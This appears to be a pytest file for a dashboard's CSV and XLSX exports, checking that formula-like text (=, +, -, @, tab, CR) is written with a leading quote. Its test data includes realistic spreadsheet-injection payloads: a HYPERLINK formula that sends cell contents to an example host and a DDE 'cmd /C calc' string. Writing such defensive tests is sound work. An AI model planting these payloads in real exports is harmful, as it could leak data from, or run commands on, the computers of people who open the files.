"""Spreadsheet safety of every export (issue item 12): formula-like text stored in the database (a channel, region,
device or user id starting with = + - @ tab or CR, realistic injection payloads, a payload behind a leading space
or a `;`) comes out of every CSV as text with a leading quote, and as a plain string cell (quote-prefixed) in XLSX;
every other value, negative numbers included, is written byte for byte as before.

The expected text of each payload is written out by hand here (EXPECTED), not computed by the module under test.
Chart CSVs and export-segments are compared with the frame the product shows, hand-neutralised (a chart CSV also
with the chart's column labels as headers and its floats at 12 significant digits, `reference_number`); export-metrics is
compared with the export of a *control* database that stores the expected (already quoted) text instead of the
payloads, which the product must write unchanged.
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import itertools
import math
import re
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import sqlalchemy as sa

import metrics
from dashboard import cli, db
from dashboard.spreadsheet_safety import FORMULA_START_PATTERN, is_formula_like, neutralise_cell, neutralise_frame
from tests.conftest import make_database_url
from tests.browser.browser_wait import open_risk_page, wait_until_idle

ASSETS = Path(__file__).resolve().parents[2] / "assets"

# one payload per trigger character: the trigger, then a sum
TRIGGER_PAYLOADS = {f"{t}2+5": f"'{t}2+5" for t in ("=", "+", "-", "@", "\t", "\r")}
REALISTIC_PAYLOADS = {
    '=HYPERLINK("http://example.com/?leak="&A1,"Click me")': '\'=HYPERLINK("http://example.com/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    " =1+1": "' =1+1",                          # spreadsheets skip the leading space
    "Shop;=1+1": "Shop;'=1+1",                  # where ';' separates cells, '=1+1' starts a cell
}
EXPECTED = {**TRIGGER_PAYLOADS, **REALISTIC_PAYLOADS}
PAYLOADS = list(EXPECTED)
PAYLOAD_IDS = [repr(p)[1:-1][:24] for p in PAYLOADS]

BENIGN_TEXT = ["organic", "TipTop", 'Joe\'s "Deals"', "United States", "Korea, Republic of", "Österreich", "iPhone",
               "PC", "12345678901234567890", "007", "user-é-42", "a-b", "x=1", "50% off"]
REFUND = -12.5       # an order that is a refund: negative revenue on a day with no other order
COST_CORRECTION = -3.25  # a negative cost correction of a benign channel on a day of its own

FIRST = pd.Timestamp("2026-03-02 08:00:00")


def event_frames(text=lambda payload: payload, refund: bool = True) -> tuple[pd.DataFrame, pd.DataFrame, pd.DataFrame]:
    """Return (visits, orders, costs): every payload as a region, a device, a channel and a user id (each passed
    through `text`), benign users around them, a refund (unless `refund` is False) and a negative cost correction.
    No two first visits tie."""
    visits, orders, costs = [], [], []
    counter = itertools.count()

    def add_user(user_id, region, device, channel, revenue=True):
        k = next(counter)
        first = FIRST + pd.Timedelta(minutes=347 * k)
        for day, minutes in ((0, 10), (2, 5), (9, 7)):
            start = first + pd.Timedelta(days=day)
            visits.append((user_id, region, device, channel, start, start + pd.Timedelta(minutes=minutes)))
        if revenue:
            orders.append((user_id, first + pd.Timedelta(minutes=30), round(4.99 + k, 2)))

    for i, payload in enumerate(PAYLOADS):
        value = text(payload)
        add_user(f"r{i}", value, "PC", "organic")
        add_user(f"d{i}", "United States", value, "TipTop")
        add_user(f"c{i}", "Korea, Republic of", "iPhone", value)
        add_user(value, "Österreich", "iPhone", "organic")
        costs.append(((FIRST + pd.Timedelta(days=i % 10)).date(), value, 3.5 + i))
    add_user("12345678901234567890", "United States", "iPhone", 'Joe\'s "Deals"')
    add_user("007", "Korea, Republic of", "PC", "TipTop")
    add_user("user-é-42", "Österreich", "PC", "organic", revenue=False)
    add_user("a-b", "United States", "iPhone", "x=1")
    add_user("refunder", "United States", "PC", "50% off", revenue=False)  # the last user: first visit on day 12
    # the other orders end on day 12: a refund on day 13, 15 hours after the refunder's first visit, is alone on
    # its day (daily revenue -12.5) and the only money of its cohort (LTV -12.5)
    if refund:
        orders.append(("refunder", FIRST.normalize() + pd.Timedelta(days=13, hours=12), REFUND))
    for day in range(12):
        costs.append(((FIRST + pd.Timedelta(days=day)).date(), "TipTop", 10.0 + day))
    costs.append(((FIRST + pd.Timedelta(days=13)).date(), 'Joe\'s "Deals"', COST_CORRECTION))
    return (pd.DataFrame(visits, columns=["user_id", "region", "device", "channel", "session_start", "session_end"]),
            pd.DataFrame(orders, columns=["user_id", "event_dt", "revenue"]),
            pd.DataFrame(costs, columns=["dt", "channel", "costs"]))


def fill(url: str, text=lambda payload: payload, refund: bool = True) -> None:
    """Create the schema in `url` and store event_frames(text, refund) with plain INSERTs (db.bulk_insert's
    PostgreSQL COPY refuses a text holding a bare carriage return: a separate import issue)."""
    engine = db.make_engine(url)
    db.create_schema(engine)
    with engine.begin() as conn:
        for table, frame in zip((db.visits, db.orders, db.costs), event_frames(text, refund)):
            records = [{k: (v.to_pydatetime() if isinstance(v, pd.Timestamp) else v) for k, v in row.items()}
                       for row in frame.to_dict("records")]
            conn.execute(table.insert(), records)
        db.bump_data_version(conn)
    engine.dispose()


def hand_neutralised(value):
    """Return the expected export text of a stored value: EXPECTED for a payload, anything else unchanged."""
    return EXPECTED.get(value, value) if isinstance(value, str) else value


def reference_number(value) -> str:
    """Return the expected CSV text of a float in a chart download: rounded to 12 significant digits, written out
    positionally (NumPy's shortest digits, no exponent); "" for NaN and infinities; -0 as 0."""
    value = float(value)
    if not math.isfinite(value):
        return ""
    return np.format_float_positional(float(f"{value:.12g}") + 0.0, trim="-")


def hand_exported(value):
    """Return the expected chart-CSV cell of a frame value: a float as reference_number, text hand-neutralised."""
    return reference_number(value) if isinstance(value, (float, np.floating)) else hand_neutralised(value)


def csv_rows(text: str) -> list[list[str]]:
    """Return the rows of a CSV text (quoted line breaks stay inside their cell)."""
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(cell: str) -> bool:
    """Return True when a CSV cell is a number (as a numeric column writes it)."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_payloads_quoted(text: str, where: str) -> None:
    """Assert that each payload in an exported CSV text (raw, and in every parsed cell) is there only in its quoted
    form (EXPECTED)."""
    cells = [cell for row in csv_rows(text) for cell in row]
    for payload, quoted in EXPECTED.items():
        assert payload not in text.replace(quoted, "").replace(as_csv_field(quoted), ""), (where, payload)
        assert not [cell for cell in cells if payload in cell.replace(quoted, "")], (where, payload)


def as_csv_field(text: str) -> str:
    """Return how `text` appears in a CSV file between the field's quotes (a double quote doubled)."""
    return text.replace('"', '""')


def assert_no_live_formula(rows: list[list[str]], where: str) -> None:
    """Assert that no cell a spreadsheet would evaluate is text: every formula-like cell is a plain number."""
    live = [cell for row in rows for cell in row if is_formula_like(cell) and not is_number(cell)]
    assert live == [], f"{where}: formula-like text cells {live[:5]}"


# --------------------------------------------------------------------------------------------------- the rule

@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\0"])
@pytest.mark.parametrize("body", ["1+1", "SUM(A1:A9)", 'HYPERLINK("http://x.test","go")', "", "cmd|' /C calc'!A0"])
def test_xsf001_a_cell_starting_with_a_trigger_gets_one_leading_quote(trigger, body):
    value = trigger + body
    expected = "'" + value
    if trigger in "\t\r" and body[:1] in "=+-@" and body:  # the rest after a tab / CR starts a cell of its own
        expected = "'" + trigger + "'" + body
    assert neutralise_cell(value) == expected
    assert is_formula_like(value) and not is_formula_like(expected)  # the written text is no formula any more


@pytest.mark.parametrize("space", [" ", "  ", "\u00a0", "\u3000", "\ufeff", "\v", "\f"])
@pytest.mark.parametrize("trigger", ["=", "+", "-", "@"])
def test_xsf002_spaces_before_a_trigger_do_not_hide_it(space, trigger):
    assert neutralise_cell(f"{space}{trigger}1+1") == f"'{space}{trigger}1+1"


@pytest.mark.parametrize("separator", [",", ";", "\t", "\r", "\n", ", ", "; "])
@pytest.mark.parametrize("trigger", ["=", "+", "-", "@"])
def test_xsf003_a_trigger_after_a_cell_separator_inside_the_text_is_quoted_there(separator, trigger):
    value = f"Shop{separator}{trigger}1+1"
    cut = len("Shop") + 1
    assert neutralise_cell(value) == value[:cut] + "'" + value[cut:]
    both = f"{trigger}A{separator}{trigger}B"
    assert neutralise_cell(both) == f"'{trigger}A{separator[0]}'{separator[1:]}{trigger}B"


@pytest.mark.parametrize("value", BENIGN_TEXT + ["", "−5 (minus sign)", "a - b", "a=b", "x@y.test", "1+1", "'=1",
                                                 "Korea, Republic of", "under_score", "tab\tinside", "100%"])
def test_xsf004_text_without_a_formula_start_is_unchanged(value):
    assert neutralise_cell(value) == value and not is_formula_like(value)


@pytest.mark.parametrize("value", [-12.5, -1, 0, 3, float("nan"), None, np.int64(-7), np.float64(-0.5),
                                   pd.Timestamp("2026-01-01"), dt.date(2026, 1, 1), True, pd.NA])
def test_xsf005_values_that_are_not_text_are_never_changed(value):
    assert neutralise_cell(value) is value


def test_xsf006_a_frame_keeps_its_numbers_and_only_changes_formula_like_text():
    frame = pd.DataFrame({
        "channel": pd.array(["=2+5", "organic", None, "-2+3"], dtype="str"),
        "region": pd.Categorical(["@SUM(A1)", "UK", "UK", "+1"]),
        "user_id": pd.Series(["-7", "007", "x", "\t1"], dtype=object),
        "revenue": [-12.5, 4.99, float("nan"), -0.01],
        "users": pd.array([-1, 2, None, 4], dtype="Int64"),
        "dt": pd.to_datetime(["2026-03-01"] * 4),
        "=cmd": [1, 2, 3, 4],
    })
    out = neutralise_frame(frame)
    assert out["channel"].tolist()[:2] == ["'=2+5", "organic"] and out["channel"].tolist()[3] == "'-2+3"
    assert pd.isna(out["channel"].tolist()[2])
    assert out["region"].tolist() == ["'@SUM(A1)", "UK", "UK", "'+1"]
    assert out["user_id"].tolist() == ["'-7", "007", "x", "'\t1"]
    assert list(out.columns) == ["channel", "region", "user_id", "revenue", "users", "dt", "'=cmd"]
    for column in ("revenue", "users", "dt"):
        pd.testing.assert_series_equal(out[column], frame[column])
    assert out.iloc[:, 6].tolist() == [1, 2, 3, 4]
    assert frame["channel"].tolist()[0] == "=2+5"  # the input is not modified
    benign = frame.drop(columns=["channel", "region", "user_id", "=cmd"])
    assert neutralise_frame(benign) is benign  # nothing to change: no copy


def test_xsf007_the_browser_export_uses_the_same_pattern_text():
    script = (ASSETS / "dashAgGridFunctions.js").read_text()
    literal = re.search(r"var FORMULA_START = /(.*)/g;", script)
    assert literal is not None and literal.group(1) == FORMULA_START_PATTERN


# ------------------------------------------------------------------------------------------------ chart CSVs

@pytest.fixture(scope="module")
def payload_app(tmp_path_factory):
    """(app context, default filter store) of an app on a DuckDB file holding the payloads."""
    from app import create_app
    from dashboard.config import Config
    from layouts.filters import FilterState

    url = f"duckdb:///{tmp_path_factory.mktemp('payload_charts') / 'charts.duckdb'}"
    fill(url)
    ctx = create_app(Config(database_url=url, autofill_demo=False)).server.extensions["dashboard_context"]
    with ctx.engine.connect() as conn:
        period = metrics.resolve_period(conn, metrics.Filters.make())
    yield ctx, FilterState(period.start, period.end, period.observation_date, 7).to_store()
    ctx.engine.dispose()


def page_param_choices() -> dict[str, list[str]]:
    """Return {page parameter name: every allowed value} over all pages."""
    from layouts import acquisition, cohorts, marketing, risk

    choices: dict[str, list[str]] = {}
    for module in (acquisition, cohorts, marketing, risk):
        for param in module.PAGE_PARAMS:
            choices.setdefault(param.name, [])
            choices[param.name] += [v for v in param.values if v not in choices[param.name]]
    return choices


def chart_downloads(ctx, stored):
    """Yield (chart name, params, shown frame, its column labels, downloaded CSV text) for every chart with a CSV
    button, each page parameter taking each of its values in turn."""
    from callbacks.charts import chart_download, chart_frame, chart_request, registered_charts
    from dashboard.cache import MetricReader

    choices = page_param_choices()
    for spec in registered_charts(ctx).values():
        variants = [{}] + [{name: value} for name in spec.params for value in choices.get(name, [])]
        for params in variants:
            frame = chart_frame(ctx, spec.frame, stored, params)
            if frame is None or frame.empty:
                continue
            with MetricReader(ctx) as read:
                labels = spec.column_labels(chart_request(ctx, stored, params, read))
            download = chart_download(ctx, spec, stored, params)
            text = base64.b64decode(download["content"]).decode() if download["base64"] else download["content"]
            yield spec.name, params, frame, labels, text


def test_xsf010_every_chart_csv_writes_payloads_as_text_and_everything_else_unchanged(payload_app):
    ctx, stored = payload_app
    from callbacks.charts import registered_charts

    registered = set(registered_charts(ctx))
    customers = "risk-customers"  # its CSV is the grid's own export in the browser (test_xsf040)
    checked, cells, texts = set(), set(), []
    for name, params, frame, labels, text in chart_downloads(ctx, stored):
        expected = frame.astype(object).map(hand_exported)
        expected.columns = [hand_neutralised(labels[c]) for c in frame.columns]  # the labels the chart shows
        if name != customers:
            assert text == expected.to_csv(index=False), (name, params)  # byte for byte
            checked.add(name)
        rows = csv_rows(text)
        assert_no_live_formula(rows, f"{name} {params}")
        assert_payloads_quoted(text, f"{name} {params}")
        cells.update(cell for row in rows for cell in row)
        texts.append(text)
    for payload, quoted in EXPECTED.items():
        assert any(as_csv_field(quoted) in text for text in texts), f"{payload!r} never reached a chart CSV"
    assert f"{REFUND}" in cells and f"{COST_CORRECTION}" in cells  # negative numbers stay numbers
    assert set(BENIGN_TEXT[:7]) <= cells
    assert len(checked) >= len(registered) - 12, sorted(registered - checked)  # charts with data on this set


# --------------------------------------------------------------------------------------------- export-metrics

@pytest.fixture
def payload_and_control(database_url, tmp_path):
    """(url holding the payloads, url holding their expected quoted text instead) on the same backend."""
    backend = sa.make_url(db.resolve_url(database_url)).get_backend_name()
    (tmp_path / "control").mkdir()
    control_url, cleanup = make_database_url(backend, tmp_path / "control")
    fill(database_url)
    fill(control_url, hand_neutralised)
    yield database_url, control_url
    cleanup()


def export_metrics(url: str, out: Path, monkeypatch, *extra: str) -> None:
    """Run `export-metrics` on `url` into `out` (cohorts by channel, region and device)."""
    monkeypatch.setenv("DATABASE_URL", url)
    assert cli.main(["export-metrics", "--out", str(out), "--horizon", "3", "--dimension", "channel",
                     "--dimension", "region", "--dimension", "device", *extra]) == 0


def test_xsf020_export_metrics_csv_quotes_payloads_and_keeps_the_rest(payload_and_control, tmp_path, monkeypatch):
    payload_url, control_url = payload_and_control
    export_metrics(payload_url, tmp_path / "payload", monkeypatch)
    export_metrics(control_url, tmp_path / "control_out", monkeypatch)
    files = sorted(p.name for p in (tmp_path / "payload").iterdir())
    assert len(files) == 11 and "kpis.csv" in files and files == sorted(p.name for p in (tmp_path / "control_out").iterdir())
    cells = set()
    for name in files:
        got = (tmp_path / "payload" / name).read_bytes().decode()
        want = (tmp_path / "control_out" / name).read_bytes().decode()
        got_rows, want_rows = csv_rows(got), csv_rows(want)
        assert got_rows[0] == want_rows[0], name
        # the same rows (a quoted name sorts elsewhere than the payload, so the order may differ)
        assert sorted(got_rows[1:]) == sorted(want_rows[1:]), name
        # ... written with the same bytes: every line of the control file is in the payload file
        assert sorted(got.splitlines()) == sorted(want.splitlines()), name
        assert_no_live_formula(got_rows, name)
        assert_payloads_quoted(got, name)
        cells.update(cell for row in got_rows for cell in row)
    profiles = (tmp_path / "payload" / "profiles.csv").read_bytes().decode()
    for payload, quoted in EXPECTED.items():  # as user id, region, device and channel
        assert profiles.count(as_csv_field(quoted)) >= 4, payload
    assert str(REFUND) in cells  # a negative number in a numeric column is written as a number


def test_xsf021_export_metrics_xlsx_writes_every_text_as_a_string_cell(payload_and_control, tmp_path, monkeypatch):
    import openpyxl

    payload_url, _ = payload_and_control
    export_metrics(payload_url, tmp_path, monkeypatch, "--format", "xlsx")
    book = openpyxl.load_workbook(tmp_path / "metrics.xlsx")
    strings: dict[str, list] = {}
    numbers = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    strings.setdefault(cell.value, []).append(cell)
                elif isinstance(cell.value, (int, float)):
                    numbers.append(cell.value)
    for payload in PAYLOADS:
        assert payload in strings, payload  # the text exactly as stored, no quote added
        assert all(cell.quotePrefix for cell in strings[payload])  # Excel's "text, as typed" mark
        assert EXPECTED[payload] not in strings
    for text in BENIGN_TEXT[:8]:
        assert text in strings and not any(cell.quotePrefix for cell in strings[text]), text
    assert REFUND in numbers
    with db.make_engine(payload_url).connect() as conn:
        profiles = metrics.profiles(conn, metrics.Filters.make())
    sheet = book["profiles"]
    header = [c.value for c in sheet[1]]
    written = [dict(zip(header, (c.value for c in row))) for row in sheet.iter_rows(min_row=2)]
    assert sorted(r["user_id"] for r in written) == sorted(profiles["user_id"].astype(str))
    by_user = profiles.set_index(profiles["user_id"].astype(str))
    for record in written:
        for column in ("region", "device", "channel"):
            assert record[column] == by_user.loc[record["user_id"], column]


# -------------------------------------------------------------------------------------------- export-segments

def test_xsf030_export_segments_quotes_payload_user_ids_and_keeps_every_number(tmp_path, monkeypatch):
    from ml.segments import segments_table

    url = f"duckdb:///{tmp_path / 'segments.duckdb'}"
    fill(url, refund=False)  # a customer with negative total revenue stops the clustering: a separate issue
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("MODEL_DIR", str(tmp_path / "models"))
    out = tmp_path / "segments.csv"
    assert cli.main(["export-segments", "--out", str(out)]) == 0
    engine = db.make_engine(url, read_only=True)
    with engine.connect() as conn:
        observation = pd.Timestamp(conn.execute(sa.select(sa.func.max(db.orders.c.event_dt))).scalar_one()).date()
        table, _ = segments_table(conn, observation, seed=0)
    engine.dispose()
    expected = table.astype(object).map(hand_neutralised)
    written = out.read_bytes().decode()
    assert written == expected.to_csv(index=False)  # byte for byte
    rows = csv_rows(written)
    assert_no_live_formula(rows, "segments.csv")
    assert_payloads_quoted(written, "segments.csv")
    ids = {row[0] for row in rows[1:]}
    assert {EXPECTED[p] for p in PAYLOADS if "\r" not in p} <= ids  # Python < 3.13 leaves a CR unquoted
    assert {"12345678901234567890", "007", "a-b"} <= ids


# ------------------------------------------------------------------------------- the customer grid (browser)

@pytest.fixture
def scored_payload_url(tmp_path):
    """A DuckDB file holding the payloads and a churn_scores run covering every customer (ids are payloads too)."""
    from ml import scoring

    url = f"duckdb:///{tmp_path / 'scored.duckdb'}"
    fill(url)
    engine = db.make_engine(url)
    with engine.connect() as conn:
        as_of = metrics.resolve_period(conn, metrics.Filters.make()).observation_date
        users = sorted(set(conn.execute(sa.select(db.visits.c.user_id)).scalars()))
    probability = np.linspace(0.05, 0.95, len(users))
    frame = pd.DataFrame({
        "user_id": users, "probability": probability, "risk_band": scoring.risk_band(probability),
        "reason_1": "visits down 60% in the last 30 days", "reason_2": "no order for 45 days",
        "reason_3": "acquired via TipTop", "value_at_risk": np.round(probability * 40 - 10, 2),  # some negative
        "model_version": "test", "as_of": as_of, "scored_at": pd.Timestamp("2026-04-01 00:00:00"),
    })
    scoring.write_scores(engine, frame, as_of)
    engine.dispose()
    return url


GRID = "dash_ag_grid.getApi('risk-customers-graph')"


@pytest.mark.browser
def test_xsf040_customer_grid_csv_download_quotes_payload_ids(dash_duo, scored_payload_url):
    open_risk_page(dash_duo, scored_payload_url)
    dash_duo.wait_for_element("#risk-customers-graph .ag-row", timeout=40)
    deadline = time.time() + 20  # the whole table (every customer) is in the grid
    while time.time() < deadline and dash_duo.driver.execute_script(
            f"return {GRID}.getDisplayedRowCount();") < len(PAYLOADS) * 4:
        time.sleep(0.2)
    # what the grid would export without the safety callback: the baseline for the unchanged cells (its numeric
    # columns export their raw values, useValueFormatterForExport: false; the callback writes them as plain numbers)
    plain = csv_rows(dash_duo.driver.execute_script(f"return {GRID}.getDataAsCsv();"))
    numeric = {plain[0].index("Probability"), plain[0].index("Value at risk")}
    wait_until_idle(dash_duo)  # the URL sync may re-render the grid once more: click on the settled page
    button = dash_duo.find_element("#risk-customers-csv")
    dash_duo.driver.execute_script("arguments[0].click();", button)  # below the fold: a click event on the button
    target = Path(dash_duo.download_path) / "customers_at_risk.csv"
    deadline = time.time() + 45
    while time.time() < deadline and not (target.exists() and target.stat().st_size > 0):
        time.sleep(0.2)
    time.sleep(0.3)  # the browser has finished writing the file
    with open(target, newline="", encoding="utf-8-sig") as handle:
        exported = list(csv.reader(handle))
    assert len(exported) == len(plain) > len(PAYLOADS) * 4
    assert exported[0] == plain[0]
    ids = set()
    for got, shown in zip(exported[1:], plain[1:]):
        # payload ids quoted, numbers at 12 significant digits, every other cell as before
        assert got == [reference_number(float(cell)) if i in numeric else hand_neutralised(cell)
                       for i, cell in enumerate(shown)]
        ids.add(got[0])
    assert {EXPECTED[p] for p in PAYLOADS} <= ids and not set(PAYLOADS) & ids
    # a negative value at risk is exported as a plain negative number (not the grid's "−$1.20", not quoted text)
    assert any(float(row[i]) < 0 and row[i].startswith("-") for row in exported[1:] for i in numeric)
    assert all(is_number(row[i]) for row in exported[1:] for i in numeric)  # no "$", "%" or thousands separator
    assert_no_live_formula(exported, "grid CSV")
    # the browser's rule is the server's rule, on the payloads and on generated text around them
    generated = PAYLOADS + BENIGN_TEXT + [a + sep + b for a, sep, b in itertools.product(
        ["", "x", " "], [",", ";", "\t", "\n", " "], ["=1", "+x", "-2", "@A", "ok", "\u00a0=1"])]
    browser = dash_duo.driver.execute_script(
        "return arguments[0].map(t => window.dashAgGridFunctions.neutraliseFormulaText(t));", generated)
    assert browser == [neutralise_cell(t) for t in generated]
    assert dash_duo.get_logs() == []
